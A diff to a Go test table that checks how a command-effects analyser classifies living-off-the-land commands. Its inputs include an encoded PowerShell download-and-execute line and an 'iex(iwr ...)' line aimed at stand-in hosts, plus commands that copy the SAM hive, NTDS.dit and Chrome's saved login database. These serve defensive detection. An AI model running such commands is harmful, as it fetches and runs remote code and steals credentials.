@@ -60,6 +60,12 @@ func TestEffectsLolbas(t *testing.T) {
 		{"powershell -enc", `powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACkA`,
 			[]middleware.Effect{fetch("evil.example"), unk(ex(""))}, nil},
 		{"iex(iwr)", `powershell -c "iex(iwr https://h.example/a.ps1)"`, []middleware.Effect{fetch("h.example"), ex("iex")}, nil},
+		{"esentutl vss copy", `esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\t\s.hive`, []middleware.Effect{rd("/System/system32/config/sam"), wr("C:/t/s.hive")}, nil},
+		{"cat of a drive path", `cat C:\Windows\NTDS\ntds.dit`, []middleware.Effect{rd("/System/ntds/ntds.dit")}, nil},
+		{"appdata", `Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" C:\t\l.db`,
+			[]middleware.Effect{rd("~/AppData/Local/Google/Chrome/User Data/Default/Login Data"), wr("C:/t/l.db")}, nil},
+		{"copy-item destination", `Copy-Item -Path .\a.txt -Destination .\b.txt`, []middleware.Effect{rd("./a.txt"), wr("./b.txt")}, []middleware.Effect{rd("./b.txt")}},
+		{"move-item", `Move-Item a.txt b.txt`, []middleware.Effect{rd("a.txt"), del("a.txt"), wr("b.txt")}, []middleware.Effect{del("b.txt")}},
 		{"a subexpression of values", `powershell -c "Write-Output (1+2)"`, nil, []middleware.Effect{ex("1+2")}},
 	})
 }
